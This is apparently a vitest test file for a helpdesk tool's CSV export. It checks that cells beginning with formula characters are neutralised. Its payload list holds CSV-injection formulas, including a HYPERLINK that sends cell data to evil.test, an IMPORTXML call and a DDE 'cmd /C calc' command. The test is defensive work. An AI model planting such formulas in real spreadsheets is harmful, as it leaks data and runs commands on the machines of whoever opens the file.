import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { ticketTable } from '../../src/cli/export.ts'
import { writeCsv } from '../../src/desks/csv.ts'
import { testDesk } from '../support/desk.ts'

const bare = [
  '=1+1',
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  '=cmd|" /C calc"!A0',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=IMPORTXML("http://evil.test","//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
]
const payloads = bare.flatMap((text) => [
  text,
  ` ${text}`,
  `"${text}`,
  `\t${text}`,
  `\r${text}`,
  `\n${text}`,
  `'${text}`,
  `\u200b${text}`,
  `\ufeff${text}`,
])

/** What a spreadsheet sees first in a cell. */
const begins = (cell: string): string => cell.replace(/^[\s"\p{Cf}]+/u, '').slice(0, 1)

test('T44: no cell of a table that we write begins a formula, whatever stands before it', () => {
  expect(payloads.length).toBeGreaterThan(40)
  const rows: string[][] = parse(writeCsv(payloads.map((payload) => [payload, 'x'])))
  expect(rows).toHaveLength(payloads.length)
  for (const [cell = ''] of rows) expect(begins(cell), JSON.stringify(cell)).toBe("'")
})

test('T44: the tickets of a desk are exported that way, whatever stands in subjects, names, addresses and fields', () => {
  const desk = testDesk({ fields: { order: { name: 'Order' } } })
  const at = new Date('2026-11-23T09:00:00Z')
  const table = ticketTable(
    desk,
    payloads.map((text, n) => ({
      number: n + 1,
      subject: text,
      type: text,
      status: text,
      createdAt: at,
      closedAt: null,
      assignee: text,
      requester: text,
      address: text,
      organisation: text,
      fields: { order: text },
    })),
  )
  const rows: string[][] = parse(table, { from_line: 2 })
  for (const cell of rows.flat())
    expect(begins(cell), JSON.stringify(cell)).not.toMatch(/[=+@\uff1d\uff0b\uff0d\uff20-]/)
})
